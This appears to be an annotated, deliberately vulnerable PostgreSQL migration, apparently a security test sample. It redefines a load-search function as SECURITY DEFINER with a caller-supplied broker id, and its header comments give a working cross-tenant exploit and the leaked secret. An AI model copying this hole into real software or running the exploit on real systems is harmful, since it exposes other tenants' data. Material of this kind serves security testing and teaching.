-- The faster search runs as its owner and takes the broker as an argument that anyone may fill in.
-- about: search_loads, loads
-- as: hf_backhaul_app
-- exploit: SET app.broker_id = 'aaaaaaaa-0000-4000-8000-000000000001';
-- exploit: SELECT reference FROM tms.search_loads('e', 'bbbbbbbb-0000-4000-8000-000000000002');
-- shows: Road-secret-1
-- Row policies made the search slow; it filters by broker itself now.
DROP FUNCTION tms.search_loads(text);
CREATE FUNCTION tms.search_loads(p_term text, p_broker uuid DEFAULT tms.current_broker())
RETURNS SETOF tms.loads LANGUAGE sql STABLE SECURITY DEFINER SET search_path = tms, pg_temp AS $$
  SELECT * FROM tms.loads
  WHERE broker_id = p_broker AND reference ILIKE '%' || p_term || '%' AND deleted_at IS NULL
$$;
